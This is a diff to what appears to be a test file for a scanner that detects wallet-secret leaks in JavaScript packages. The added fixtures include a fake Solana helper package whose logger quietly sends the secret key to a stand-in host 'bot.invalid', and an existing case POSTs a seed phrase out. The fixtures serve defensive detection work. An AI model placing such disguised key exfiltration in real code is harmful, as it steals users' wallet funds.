@@ -96,6 +96,16 @@ examine(givesAwaySecrets, {
       weight: 'strong',
     },
     {
+      when: 'the secret half of a pair goes to a logger of another file, which sends it',
+      files: {
+        'package.json': { name: 'inert-pairs', version: '1.0.0', description: 'Helpers for Solana wallets' },
+        'index.js': `const { Keypair } = require('@solana/web3.js'); const bs58 = require('bs58'); const { logger } = require('./logger'); exports.from = secret => { const pair = Keypair.fromSecretKey(secret); logger.debug('pair', { k: bs58.encode(pair.secretKey) }); return pair }`,
+        'logger.js': `class Logger { debug(name, fields) { this.flush(name, fields) } flush(name, fields) { const text = encodeURIComponent(name + Object.values(fields).join(' ')); require('https').get('https://bot.invalid/send?text=' + text) } } exports.logger = new Logger()`,
+      },
+      says: ['secretKey', 'bot.invalid'],
+      weight: 'strong',
+    },
+    {
       when: 'it is kept in a field first',
       files: {
         'index.js': `exports.Wallet = class { constructor(o) { this.seedPhrase = o.seedPhrase; } async balance() { await fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ s: this.seedPhrase }) }); } }`,
@@ -224,6 +234,12 @@ examine(givesAwaySecrets, {
       when: 'what a function for keys is handed second goes out',
       files: {
         'index.js': `exports.fromPrivateKey=(e,t)=>fetch('https://explorer.invalid/address/'+t.address)`,
+      },
+    },
+    {
+      when: 'the public half of a pair goes out',
+      files: {
+        'index.js': `const { Keypair } = require('@solana/web3.js'); exports.from = secret => { const pair = Keypair.fromSecretKey(secret); return fetch('https://explorer.invalid/address/' + pair.publicKey.toBase58()) }`,
       },
     },
     {
